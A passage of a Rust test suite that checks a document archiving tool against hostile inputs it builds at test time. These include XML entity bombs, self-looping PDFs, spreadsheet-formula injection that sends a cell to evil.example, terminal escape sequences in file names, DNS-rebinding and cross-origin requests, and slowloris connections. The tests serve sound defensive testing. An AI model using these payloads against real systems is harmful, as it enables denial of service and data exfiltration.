//! Hostile input, made at test time (no binary blobs): files made to hang, exhaust or trick the
//! readers; names and titles made to act on a terminal or a spreadsheet; requests of another
//! site (DNS rebinding, cross-origin writes); and `serve` under faults. Each test would fail
//! without the guard it names. The browser's side of the cross-site cases is in `browser`.

use std::collections::BTreeMap;
use std::fs::File;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::os::unix::process::CommandExt;
use std::process::Stdio;
use std::time::{Duration, Instant};

use super::serve::Server;
use super::*;

/// Bounds every hostile file is read within (README, "Safe by default").
const STATED_TIME: Duration = Duration::from_secs(10);
const STATED_MEMORY_KB: i64 = 600 << 10;

/// A run of the binary with its wall time and peak memory (its own, from `wait4`).
struct Measured {
    code: Option<i32>,
    stderr: String,
    wall: Duration,
    max_rss_kb: i64,
}

/// Runs archivist in `env` with `args`, measuring it.
fn measured(env: &Env, args: &[&str]) -> Measured {
    let err_path = env.path("measured.err");
    let started = Instant::now();
    #[allow(clippy::zombie_processes)] // waited for by wait4, for its rusage
    let child = Command::new(env!("CARGO_BIN_EXE_archivist"))
        .args(args)
        .current_dir(env.dir.path())
        .env("XDG_CACHE_HOME", env.path("cache"))
        .stdout(Stdio::null())
        .stderr(File::create(&err_path).expect("stderr file"))
        .spawn()
        .expect("run archivist");
    let mut status = 0;
    // SAFETY: an all-zero rusage is valid, and wait4 writes into it.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    // SAFETY: the pid is our own child's, not yet waited for.
    let waited = unsafe { libc::wait4(child.id() as i32, &mut status, 0, &mut usage) };
    assert_eq!(waited, child.id() as i32, "wait4");
    // Waited for above, by pid; `Child` is not told, and must not wait again.
    std::mem::forget(child);
    let wall = started.elapsed();
    let code = libc::WIFEXITED(status).then(|| libc::WEXITSTATUS(status));
    let read = |p: &Path| std::fs::read_to_string(p).unwrap_or_default();
    Measured {
        code,
        stderr: read(&err_path),
        wall,
        max_rss_kb: usage.ru_maxrss,
    }
}

/// The files made to hang or exhaust a reader, as (name, what it holds, bytes).
fn hostile_files() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let deep = 100_000;
    let mut files = vec![
        (
            "deep.html",
            "100,000 nested <div>s",
            format!(
                "<html><body>{}Maizuru deep{}</body></html>",
                "<div>".repeat(deep),
                "</div>".repeat(deep)
            )
            .into_bytes(),
        ),
        (
            "unclosed.html",
            "100,000 <div><span> never closed",
            format!("<html><body>{}Maizuru unclosed", "<div><span>".repeat(deep)).into_bytes(),
        ),
        (
            "deep.xml",
            "100,000 nested elements",
            format!(
                "<?xml version=\"1.0\"?>{}Maizuru xml{}",
                "<a>".repeat(deep),
                "</a>".repeat(deep)
            )
            .into_bytes(),
        ),
        (
            "laughs.xml",
            "a billion laughs",
            billion_laughs().into_bytes(),
        ),
        (
            "loop.pdf",
            "a page tree that contains itself",
            looping_pdf(),
        ),
    ];
    files.push((
        "empty-members.zip",
        "50,000 empty members",
        zip_of_empty_members(50_000),
    ));
    files.push((
        "shared-strings.xlsx",
        "a shared string of 800 KB named by 20,000 cells (16 GB of text)",
        shared_strings_bomb(),
    ));
    files
}

/// An XLSX whose one shared string, of 800 KB, fills each of 20,000 cells.
fn shared_strings_bomb() -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    let main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    let rows: String = (1..=20_000)
        .map(|i| format!("<row r=\"{i}\"><c r=\"A{i}\" t=\"s\"><v>0</v></c></row>"))
        .collect();
    for (name, xml) in [
        (
            "xl/workbook.xml",
            format!(
                "<workbook xmlns=\"{main}\"><sheets><sheet name=\"S\" sheetId=\"1\"/></sheets></workbook>"
            ),
        ),
        (
            "xl/sharedStrings.xml",
            format!(
                "<sst xmlns=\"{main}\"><si><t>{}</t></si></sst>",
                "Maizuru ".repeat(100_000)
            ),
        ),
        (
            "xl/worksheets/sheet1.xml",
            format!("<worksheet xmlns=\"{main}\"><sheetData>{rows}</sheetData></worksheet>"),
        ),
    ] {
        zip.start_file(name, options).expect("part");
        zip.write_all(xml.as_bytes()).expect("part");
    }
    zip.finish().expect("xlsx").into_inner()
}

/// Entities that expand to 10^9 `lol`s.
fn billion_laughs() -> String {
    let mut xml =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
    let mut previous = "lol".to_string();
    for i in 1..=9 {
        let name = format!("lol{i}");
        xml.push_str(&format!(
            "<!ENTITY {name} \"{}\">\n",
            format!("&{previous};").repeat(10)
        ));
        previous = name;
    }
    xml.push_str(&format!("]>\n<lolz>&{previous}; Maizuru laughs</lolz>\n"));
    xml
}

/// A PDF whose page tree lists itself among its own kids.
fn looping_pdf() -> Vec<u8> {
    let content = "BT /F1 12 Tf 20 100 Td (Maizuru loop) Tj ET";
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_string(),
        "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>".to_string(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R \
         /Resources << /Font << /F1 5 0 R >> >> >>"
            .to_string(),
        format!(
            "<< /Length {} >>\nstream\n{content}\nendstream",
            content.len()
        ),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_string(),
    ];
    let mut pdf = b"%PDF-1.4\n".to_vec();
    let mut offsets = Vec::new();
    for (i, object) in objects.iter().enumerate() {
        offsets.push(pdf.len());
        pdf.extend_from_slice(format!("{} 0 obj\n{object}\nendobj\n", i + 1).as_bytes());
    }
    let xref = pdf.len();
    pdf.extend_from_slice(
        format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes(),
    );
    for offset in offsets {
        pdf.extend_from_slice(format!("{offset:010} 00000 n \n").as_bytes());
    }
    pdf.extend_from_slice(
        format!(
            "trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n",
            objects.len() + 1
        )
        .as_bytes(),
    );
    pdf
}

/// A ZIP of `n` empty members.
fn zip_of_empty_members(n: usize) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let stored =
        zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    for i in 0..n {
        zip.start_file(format!("m{i}.txt"), stored).expect("member");
    }
    zip.finish().expect("zip").into_inner()
}

#[test]
fn hostile_files_end_within_the_stated_time_and_memory_and_the_batch_goes_on() {
    for (name, what, bytes) in hostile_files() {
        let env = Env::new();
        std::fs::write(env.path("corpus").join(name), &bytes).expect("hostile file");
        let run = measured(&env, &["ingest", "--report", "report.json"]);
        assert!(
            run.wall < STATED_TIME && run.max_rss_kb < STATED_MEMORY_KB,
            "{name} ({what}): {:?}, {} MB\n{}",
            run.wall,
            run.max_rss_kb >> 10,
            run.stderr
        );
        // The corpus beside it is indexed all the same.
        assert!(matches!(run.code, Some(0 | 2)), "{name}: {}", run.stderr);
        let found = env.search("Maizuru");
        assert!(
            found
                .hits
                .iter()
                .any(|h| SEEDS.iter().any(|s| h.path.ends_with(s))),
            "{name}: the corpus is not indexed: {}",
            run.stderr
        );
        let report: serde_json::Value =
            serde_json::from_slice(&std::fs::read(env.path("report.json")).expect("report"))
                .expect("report JSON");
        let outcome = report["files"]
            .as_array()
            .and_then(|files| {
                files
                    .iter()
                    .find(|f| f["path"].as_str().is_some_and(|p| p.ends_with(name)))
            })
            .unwrap_or_else(|| panic!("{name} has no outcome: {report}"));
        if name == "shared-strings.xlsx" {
            assert_eq!(outcome["outcome"], "failed", "{outcome}");
        }
        if name == "empty-members.zip" {
            assert_eq!(
                outcome["reason"], "no text in any of its files (50000: empty file)",
                "one line, saying why"
            );
        }
        eprintln!(
            "{name} ({what}): {} in {:.2} s, peak {} MB",
            outcome["outcome"],
            run.wall.as_secs_f64(),
            run.max_rss_kb >> 10
        );
    }
}

#[test]
fn pipes_and_devices_are_passed_over_with_a_line_never_read() {
    let env = Env::new();
    let fifo =
        std::ffi::CString::new(env.path("corpus/pipe.txt").to_str().expect("path")).expect("path");
    // SAFETY: a valid C string; mkfifo only makes the node.
    assert_eq!(unsafe { libc::mkfifo(fifo.as_ptr(), 0o600) }, 0, "mkfifo");
    std::os::unix::fs::symlink("/dev/zero", env.path("corpus/zero.txt")).expect("symlink");
    // Followed (asked to), the link leads to a device.
    let run = measured(&env, &["ingest", "--follow-links"]);
    assert!(run.wall < STATED_TIME, "{:?}: {}", run.wall, run.stderr);
    for line in [
        "skipped ", // the prefix of both lines
        "pipe.txt: a named pipe: not read",
        "zero.txt: a device: not read",
        "5 added",
    ] {
        assert!(run.stderr.contains(line), "{line}: {}", run.stderr);
    }
}

#[test]
fn a_variants_file_from_an_archive_cannot_make_searches_crawl() {
    // One group of 50,001 forms: a search for Maizuru took 404 s and 2.2 GB before the bound.
    let env = Env::new();
    let forms: Vec<String> = std::iter::once("Maizuru".to_string())
        .chain((0..50_000).map(|i| format!("form{i}")))
        .collect();
    std::fs::write(env.path(&format!("corpus/{VARIANTS}")), forms.join(" | ")).expect("variants");
    let ingest = env.run(&["ingest"]);
    assert!(
        stderr(&ingest).contains("a group of 50001 forms; at most 256"),
        "{}",
        stderr(&ingest)
    );
    let started = Instant::now();
    let found = env.search("Maizuru");
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(found.hits.len(), 2);
}

#[test]
fn links_out_of_the_archive_are_not_followed_unless_asked() {
    let env = Env::new();
    std::fs::create_dir(env.path("private")).expect("private");
    std::fs::write(env.path("private/key.txt"), "Maizuru private key").expect("key");
    std::os::unix::fs::symlink(env.path("private"), env.path("corpus/home")).expect("link");
    std::os::unix::fs::symlink(env.path("private/key.txt"), env.path("corpus/key.txt"))
        .expect("link");
    std::os::unix::fs::symlink("/", env.path("corpus/root")).expect("link");
    // A link that stays inside is followed.
    std::os::unix::fs::symlink(
        env.path(&format!("corpus/{}", SEEDS[0])),
        env.path("corpus/same.txt"),
    )
    .expect("link");
    let run = measured(&env, &["ingest"]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    for link in ["home", "key.txt", "root"] {
        assert!(
            run.stderr
                .contains(&format!("corpus/{link}: a symbolic link to "))
                && run
                    .stderr
                    .contains("not followed (--follow-links follows it)"),
            "{link}: {}",
            run.stderr
        );
    }
    assert!(run.stderr.contains("6 added"), "{}", run.stderr);
    assert!(
        env.search("private").hits.is_empty(),
        "nothing from outside is indexed"
    );
    // Asked, links are followed wherever they lead.
    std::fs::remove_file(env.path("corpus/root")).expect("unlink");
    let out = env.run(&["ingest", "--follow-links"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    // home/key.txt and key.txt: one hit, the same content twice.
    let found = env.search("private");
    assert_eq!(found.hits.len(), 1, "{found}");
}

#[test]
fn any_number_or_file_a_user_types_is_answered() {
    // `-n 1000000000` asked the ranking for room for a billion hits up front: 32 GB, an abort.
    let env = Env::ingested();
    for args in [
        &["search", "Maizuru", "-n", "1000000000"][..],
        &["search", "Maizuru", "-n", "18446744073709551615"],
        &["search", "Maizuru", "--offset", "18446744073709551615"],
        &[
            "search",
            "Maizuru",
            "-n",
            "18446744073709551615",
            "--offset",
            "18446744073709551615",
        ],
    ] {
        let run = measured(&env, args);
        assert!(matches!(run.code, Some(0 | 1)), "{args:?}: {}", run.stderr);
        assert!(
            run.max_rss_kb < 200 << 10,
            "{args:?}: {} MB",
            run.max_rss_kb >> 10
        );
    }
    // Files named on the command line are read through a bound, whatever their size says.
    for args in [
        &["search", "--variants", "/dev/zero", "Maizuru"][..],
        &["search", "--batch", "/dev/zero"],
    ] {
        let run = measured(&env, args);
        assert_eq!(run.code, Some(2), "{args:?}: {}", run.stderr);
        assert!(run.stderr.contains("is larger than"), "{}", run.stderr);
        assert!(run.wall < STATED_TIME && run.max_rss_kb < STATED_MEMORY_KB);
    }
    let out = env.run(&["search", "--json", "Maizuru", "-n", "1000000000"]);
    let found: Search = json(&out);
    assert_eq!(found.hits.len(), 2);
}

#[test]
fn nested_html_is_flattened_not_parsed_in_quadratic_time() {
    // 100,000 levels took html5ever's tree builder 24 s (77 s unclosed) before the bound.
    let env = Env::new();
    let deep = 100_000;
    std::fs::write(
        env.path("corpus/deep.html"),
        format!(
            "<html><body>{}Nakhodka deep{}</body></html>",
            "<div>".repeat(deep),
            "</div>".repeat(deep)
        ),
    )
    .expect("deep html");
    let run = measured(&env, &["ingest"]);
    assert_eq!(run.code, Some(0), "{}", run.stderr);
    assert!(run.wall < Duration::from_secs(5), "{:?}", run.wall);
    assert_eq!(env.search("Nakhodka").hits.len(), 1, "its text is indexed");
}

#[test]
fn a_line_of_a_gigabyte_fails_without_being_read_whole() {
    let env = Env::new();
    // 1 GiB of words and no line break, written a megabyte at a time.
    let mut file = File::create(env.path("corpus/line.txt")).expect("line.txt");
    let chunk = "Maizuru ".repeat(1 << 17);
    for _ in 0..1024 {
        file.write_all(chunk.as_bytes()).expect("write");
    }
    drop(file);
    let run = measured(&env, &["ingest", "--max-file-size", "2G"]);
    assert_eq!(run.code, Some(2), "the batch is partial: {}", run.stderr);
    let failed: Vec<&str> = run
        .stderr
        .lines()
        .filter(|l| l.starts_with("archivist: failed"))
        .collect();
    assert_eq!(failed.len(), 1, "{}", run.stderr);
    assert!(
        failed[0].contains("line.txt") && failed[0].contains("a line longer than 16 MB"),
        "{}",
        failed[0]
    );
    assert!(
        run.wall < STATED_TIME && run.max_rss_kb < STATED_MEMORY_KB,
        "{:?}, {} MB",
        run.wall,
        run.max_rss_kb >> 10
    );
    assert!(run.stderr.contains("5 added"), "{}", run.stderr);
}

#[test]
fn a_reader_past_its_time_fails_its_file_and_the_rest_is_indexed() {
    let env = Env::new();
    // About 60 MB of HTML: seconds of html5ever's time, far past a tenth of a second.
    let page = format!(
        "<html><body>{}</body></html>",
        "<p>Maizuru harbour, the <b>repatriation</b> ships.</p>\n".repeat(1_100_000)
    );
    std::fs::write(env.path("corpus/slow.html"), page).expect("slow.html");
    let run = measured(
        &env,
        &[
            "ingest",
            "--max-file-size",
            "100M",
            "--max-read-time",
            "0.1",
        ],
    );
    assert_eq!(run.code, Some(2), "{}", run.stderr);
    assert!(
        run.stderr.lines().any(|l| l.contains("failed")
            && l.contains("slow.html")
            && l.contains("see --max-read-time")),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("5 added"), "{}", run.stderr);
    assert!(run.wall < STATED_TIME, "{:?}", run.wall);
}

/// Bytes that would act on a terminal: a title (OSC 0), a hyperlink (OSC 8), the clipboard
/// (OSC 52), a C1 control, and a right-to-left override that shows `txt.exe` as `exe.txt`.
const ESCAPES: &str = "\x1b]0;pwned\x07\x1b]8;;evil.example\x1b\\\u{9b}\u{202e}";

/// Whether `text` holds any of the bytes of [`ESCAPES`] raw.
fn acts_on_a_terminal(text: &str) -> bool {
    text.contains('\x1b')
        || text.contains('\x07')
        || text.contains('\u{9b}')
        || text.contains('\u{202e}')
}

#[test]
fn names_and_titles_reach_the_terminal_inert() {
    let env = Env::new();
    let name = format!("evil{ESCAPES}gpj.txt");
    std::fs::write(env.path("corpus").join(&name), "Maizuru escapes\n").expect("evil file");
    // A title with the same, as character references.
    let referenced: String = ESCAPES
        .chars()
        .map(|c| format!("&#x{:x};", u32::from(c)))
        .collect();
    std::fs::write(
        env.path("corpus/title.html"),
        format!("<title>Maizuru title {referenced}end</title><p>Maizuru titled</p>"),
    )
    .expect("title.html");
    // The same name as a ZIP member.
    let mut zip = zip::ZipWriter::new(File::create(env.path("corpus/evil.zip")).expect("zip"));
    zip.start_file(name.as_str(), zip::write::SimpleFileOptions::default())
        .expect("member");
    zip.write_all(b"Maizuru member").expect("member text");
    zip.finish().expect("zip");
    // A file that fails, for its failure line.
    std::fs::write(
        env.path("corpus").join(format!("bad{ESCAPES}.pdf")),
        b"%PDF-1.4 broken",
    )
    .expect("bad pdf");
    let mut outputs = Vec::new();
    let ingest = env.run(&["ingest", "-v"]);
    outputs.push(("ingest -v", ingest));
    outputs.push((
        "search",
        env.run(&["--color", "always", "search", "Maizuru", "-n", "50"]),
    ));
    let tag = format!("t{ESCAPES}");
    outputs.push((
        "tag add",
        env.run(&["tag", "add", &tag, "--query", "Maizuru"]),
    ));
    outputs.push(("tag list", env.run(&["tag", "list"])));
    let file = env.path("corpus").join(&name);
    let file = file.to_str().expect("UTF-8 path");
    outputs.push(("note", env.run(&["note", file, &format!("note {ESCAPES}")])));
    outputs.push(("search notes", env.run(&["search", "escapes"])));
    outputs.push((
        "watch add",
        env.run(&["watch", "add", &format!("w{ESCAPES}"), "Maizuru"]),
    ));
    outputs.push(("watch list", env.run(&["watch", "list"])));
    outputs.push(("watch", env.run(&["watch"])));
    std::fs::write(env.path("corpus").join(&name), "changed").expect("change it");
    outputs.push(("verify", env.run(&["verify"])));
    outputs.push(("status", env.run(&["status"])));
    for (what, out) in &outputs {
        let (stdout, stderr) = (stdout(out), stderr(out));
        // Colours are the only escapes, and only the SGR ones this program writes.
        let without_colours = stdout
            .split('\x1b')
            .enumerate()
            .map(|(i, piece)| {
                if i == 0 {
                    piece
                } else {
                    let end = piece.find('m').filter(|e| {
                        piece[..*e]
                            .bytes()
                            .all(|b| b == b'[' || b == b';' || b.is_ascii_digit())
                    });
                    end.map_or("\x1b", |e| &piece[e + 1..])
                }
            })
            .collect::<String>();
        assert!(
            !acts_on_a_terminal(&without_colours) && !acts_on_a_terminal(&stderr),
            "{what}:\n{stdout:?}\n{stderr:?}"
        );
    }
    let shown = |what: &str| {
        let (_, out) = outputs.iter().find(|(w, _)| *w == what).expect("output");
        format!("{}{}", stdout(out), stderr(out))
    };
    // Shown visibly, not dropped: the name on screen is still the name on disk.
    for (what, expected) in [
        ("ingest -v", "evil\\u{1b}]0;pwned\\u{7}"),
        ("ingest -v", "bad\\u{1b}]0;pwned"),
        ("search", "\\u{202e}gpj.txt"),
        ("search", "evil.zip!/evil\\u{1b}"),
        // html5ever drops ESC and BEL from a title itself; the override is left to escape.
        ("search", "Maizuru title ]0;pwned"),
        ("search", "\\u{202e}end"),
        ("tag list", "t\\u{1b}]0;pwned"),
        ("search notes", "note: note \\u{1b}"),
        ("watch list", "w\\u{1b}]0;pwned"),
        ("verify", "changed    "),
    ] {
        assert!(
            shown(what).contains(expected),
            "{what}: {expected}\n{}",
            shown(what)
        );
    }
}

#[test]
fn csv_cells_that_spreadsheets_would_run_are_text() {
    let env = Env::new();
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
    std::fs::write(
        env.path("corpus/formula.html"),
        format!(
            "<html><head><title>{formula}</title></head><body><p>+SUM(A1:A9) Maizuru \
             formulas</p></body></html>"
        ),
    )
    .expect("formula.html");
    let csv_rows = |args: &[&str]| -> Vec<csv::StringRecord> {
        let out = env.run(&[&["search", "formulas", "--format", "csv"][..], args].concat());
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        csv::Reader::from_reader(out.stdout.as_slice())
            .records()
            .collect::<Result<_, _>>()
            .expect("CSV")
    };
    let rows = csv_rows(&[]);
    assert_eq!(rows.len(), 1);
    assert_eq!(&rows[0][7], format!("'{formula}"), "the title");
    assert!(
        rows[0][14].starts_with("'+SUM(A1:A9)"),
        "the snippet: {}",
        &rows[0][14]
    );
    for cell in rows[0].iter() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?}"
        );
    }
    // Asked for, the bytes as they are; JSON lines never changed.
    assert_eq!(&csv_rows(&["--csv-raw"])[0][7], formula);
    let out = env.run(&["search", "formulas", "--format", "jsonl"]);
    let line: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON line");
    assert_eq!(line["title"], formula);
}

#[test]
fn ctrl_c_leaves_no_scratch_folder_behind() {
    let env = Env::new();
    std::fs::create_dir(env.path("tmp")).expect("TMPDIR");
    super::ocr::scan(
        &env.path("corpus/scan.pdf"),
        super::ocr::ENGLISH,
        &["--pages", "12"],
    );
    let mut child = Command::new(env!("CARGO_BIN_EXE_archivist"))
        .args(["ingest"])
        .current_dir(env.dir.path())
        .env("TMPDIR", env.path("tmp"))
        .env("XDG_CACHE_HOME", env.path("cache"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("ingest");
    let started = Instant::now();
    let scratch = || {
        std::fs::read_dir(env.path("tmp"))
            .map(|d| d.count())
            .unwrap_or(0)
    };
    while scratch() == 0 {
        assert!(
            started.elapsed() < Duration::from_secs(60),
            "no scratch folder was made: is poppler-utils installed?"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    std::thread::sleep(Duration::from_millis(300));
    // SAFETY: signalling our own child.
    unsafe { libc::kill(child.id() as i32, libc::SIGINT) };
    let status = child.wait().expect("wait");
    assert_eq!(status.code(), Some(130), "ended by the interruption");
    let left: Vec<_> = std::fs::read_dir(env.path("tmp"))
        .expect("TMPDIR")
        .map(|e| e.map(|e| e.path()))
        .collect();
    assert!(left.is_empty(), "left behind: {left:?}");
    // The index keeps its last commit, and a run again completes it.
    let again = env.run(&["ingest"]);
    assert_eq!(again.status.code(), Some(0), "{}", stderr(&again));
}

/// One request over a raw connection, with whatever headers: the status and the body.
fn raw(server: &Server, request: &str) -> (u16, String) {
    let address = server
        .base
        .trim_start_matches("http://")
        .trim_end_matches('/');
    let mut stream = TcpStream::connect(address).expect("connect");
    stream
        .set_read_timeout(Some(Duration::from_secs(30)))
        .expect("timeout");
    stream.write_all(request.as_bytes()).expect("send");
    let mut answer = String::new();
    let _ = stream.read_to_string(&mut answer);
    let status = answer
        .split(' ')
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let body = answer
        .split_once("\r\n\r\n")
        .map(|(_, b)| b.to_string())
        .unwrap_or_default();
    (status, body)
}

fn get_with_host(server: &Server, path: &str, host: &str) -> (u16, String) {
    raw(
        server,
        &format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"),
    )
}

/// The id of the first hit for `query`, through the API.
fn first_id(server: &Server, query: &str) -> String {
    let (_, results) = server.json(&format!("api/v1/search?q={query}"));
    results["hits"][0]["id"]
        .as_str()
        .expect("a hit")
        .to_string()
}

#[test]
fn without_a_token_only_this_servers_own_names_are_answered() {
    let env = Env::new();
    let server = Server::start(&env, &["--allow-host", "archive.example.org"]);
    let port = server
        .base
        .rsplit(':')
        .next()
        .unwrap_or("")
        .trim_end_matches('/');
    for path in ["/api/v1/status", "/api/v1/search?q=Maizuru", "/"] {
        // A page of evil.example that pointed its name at 127.0.0.1 (DNS rebinding).
        let (status, body) = get_with_host(&server, path, &format!("evil.example:{port}"));
        assert_eq!(status, 421, "{path}: {body}");
        let error: serde_json::Value = serde_json::from_str(&body).expect("a JSON error");
        assert!(
            error["error"]
                .as_str()
                .is_some_and(|e| e.contains("--allow-host"))
        );
        for host in [
            format!("127.0.0.1:{port}"),
            format!("localhost:{port}"),
            format!("[::1]:{port}"),
            "archive.example.org".to_string(),
        ] {
            assert_eq!(get_with_host(&server, path, &host).0, 200, "{path} {host}");
        }
    }
    // With a token, the token guards: a rebound page does not have it.
    let server = Server::start(&env, &["--token", "s3cret"]);
    let request = |authorization: &str| {
        raw(
            &server,
            &format!(
                "GET /api/v1/status HTTP/1.1\r\nHost: proxy.example\r\n{authorization}\
                 Connection: close\r\n\r\n"
            ),
        )
        .0
    };
    assert_eq!(request(""), 401);
    assert_eq!(request("Authorization: Bearer s3cret\r\n"), 200);
}

#[test]
fn a_write_from_another_origin_is_refused_and_changes_nothing() {
    let env = Env::new();
    let server = Server::start(&env, &[]);
    let id = first_id(&server, "Maizuru");
    let host = server
        .base
        .trim_start_matches("http://")
        .trim_end_matches('/')
        .to_string();
    let post = |origin: &str| {
        raw(
            &server,
            &format!(
                "POST /api/v1/documents/{id}/tags?tag=pwned HTTP/1.1\r\nHost: {host}\r\n\
                 X-Archivist-Write: 1\r\n{origin}Content-Length: 0\r\nConnection: close\r\n\r\n"
            ),
        )
    };
    assert_eq!(post("Origin: http://evil.example\r\n").0, 403);
    assert_eq!(post("Origin: null\r\n").0, 403);
    let (_, doc) = server.json(&format!("api/v1/documents/{id}"));
    assert_eq!(doc["tags"], serde_json::json!([]), "nothing was written");
    // This server's own page may.
    let (status, body) = post(&format!("Origin: http://{host}\r\n"));
    assert_eq!(status, 200, "{body}");
    let (_, doc) = server.json(&format!("api/v1/documents/{id}"));
    assert_eq!(doc["tags"], serde_json::json!(["pwned"]));
}

#[test]
fn a_thousand_idle_connections_neither_crash_the_server_nor_keep_others_out() {
    let env = Env::new();
    let server = Server::start(&env, &[]);
    // This test's own limit of open files, raised for its thousand sockets.
    // SAFETY: reading and setting this process's own limit.
    unsafe {
        let mut limit: libc::rlimit = std::mem::zeroed();
        libc::getrlimit(libc::RLIMIT_NOFILE, &mut limit);
        limit.rlim_cur = limit.rlim_max.min(8192);
        libc::setrlimit(libc::RLIMIT_NOFILE, &limit);
    }
    let address = server
        .base
        .trim_start_matches("http://")
        .trim_end_matches('/')
        .to_string();
    let idle: Vec<TcpStream> = (0..1000)
        .map(|i| {
            let mut stream = TcpStream::connect(&address).expect("connect");
            if i % 2 == 0 {
                // Half a request, and then nothing (slowloris).
                let _ = stream.write_all(b"GET /api/v1/status HTTP/1.1\r\nHost: 127.0.0.1\r\n");
            }
            stream
        })
        .collect();
    let started = Instant::now();
    let (status, _) = server.json("api/v1/search?q=Maizuru");
    assert_eq!(status, 200);
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
    let pid = server.pid();
    let rss_kb = std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with("VmRSS:"))
                .and_then(|l| l.split_whitespace().nth(1)?.parse::<u64>().ok())
        })
        .expect("the server's memory");
    assert!(
        rss_kb < 200 << 10,
        "{} MB with 1000 connections",
        rss_kb >> 10
    );
    // Idle connections are closed by the server after its header time (10 s).
    std::thread::sleep(Duration::from_secs(12));
    let closed = idle
        .into_iter()
        .filter(|stream| {
            let mut stream = stream;
            let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
            let mut buffer = [0u8; 512];
            // Closed: end of stream, or the 408 hyper sends to half a request, then the end.
            loop {
                match stream.read(&mut buffer) {
                    Ok(0) => return true,
                    Ok(_) => continue,
                    Err(_) => return false,
                }
            }
        })
        .count();
    assert_eq!(closed, 1000, "idle connections closed by the server");
    assert_eq!(server.json("api/v1/status").0, 200);
}

#[test]
fn the_index_deleted_or_rebuilt_while_serving() {
    let env = Env::new();
    let server = Server::start(&env, &[]);
    std::fs::remove_dir_all(env.path("index")).expect("delete the index");
    // Searches answer from what the server read; the status says what happened.
    assert_eq!(server.json("api/v1/search?q=Maizuru").0, 200);
    let (status, error) = server.json("api/v1/status");
    assert_eq!(status, 503, "{error}");
    assert!(
        error["error"]
            .as_str()
            .is_some_and(|e| e.contains("not there now"))
    );
    // Rebuilt with other files: the server follows.
    std::fs::write(env.path("corpus/zanzibar.txt"), "Zanzibar letters").expect("new file");
    let out = env.run(&["ingest"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let started = Instant::now();
    loop {
        let (status, found) = server.json("api/v1/search?q=Zanzibar");
        if status == 200 && found["total_hits"] == 1 {
            break;
        }
        assert!(started.elapsed() < Duration::from_secs(10), "{found}");
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(server.json("api/v1/status").0, 200);
}

/// A write through the API: `method` on `path` with `body`, from the page.
fn write(server: &Server, method: &str, path: &str, body: &str) -> (u16, String) {
    let host = server
        .base
        .trim_start_matches("http://")
        .trim_end_matches('/')
        .to_string();
    raw(
        server,
        &format!(
            "{method} {path} HTTP/1.1\r\nHost: {host}\r\nX-Archivist-Write: 1\r\n\
             Content-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        ),
    )
}

#[test]
fn a_locked_annotations_database_is_told_and_loses_nothing() {
    let env = Env::new();
    let server = Server::start(&env, &[]);
    let id = first_id(&server, "Maizuru");
    let tags = format!("/api/v1/documents/{id}/tags");
    assert_eq!(
        write(&server, "POST", &format!("{tags}?tag=kept"), "").0,
        200
    );
    // Another program holds the write lock.
    let db = rusqlite::Connection::open(env.path("index.annotations.sqlite")).expect("db");
    db.execute_batch("BEGIN EXCLUSIVE").expect("lock");
    let started = Instant::now();
    let (status, body) = write(&server, "POST", &format!("{tags}?tag=later"), "");
    assert_eq!(status, 503, "{body}");
    assert!(
        body.contains("another program holds the tags and notes"),
        "{body}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "{:?}",
        started.elapsed()
    );
    db.execute_batch("COMMIT").expect("unlock");
    let (status, body) = write(&server, "POST", &format!("{tags}?tag=later"), "");
    assert_eq!(status, 200, "{body}");
    let (_, doc) = server.json(&format!("api/v1/documents/{id}"));
    assert_eq!(doc["tags"], serde_json::json!(["kept", "later"]));
}

#[test]
fn a_full_disk_while_writing_a_note_is_told_and_loses_nothing() {
    let env = Env::new();
    // Documents enough for the notes to outgrow the room.
    for n in 0..10 {
        std::fs::write(env.path(&format!("corpus/letter{n}.txt")), "Maizuru letter")
            .expect("letter");
    }
    let out = env.run(&["ingest"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    // The marks exist before the server starts (a tag from the command line).
    let out = env.run(&["tag", "add", "kept", "--query", "Maizuru"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    // No file of the server may grow more than 40 KB past the marks' size now (nor stay under
    // SQLite's 32 KB of shared memory): the disk is full for it.
    let size = std::fs::metadata(env.path("index.annotations.sqlite"))
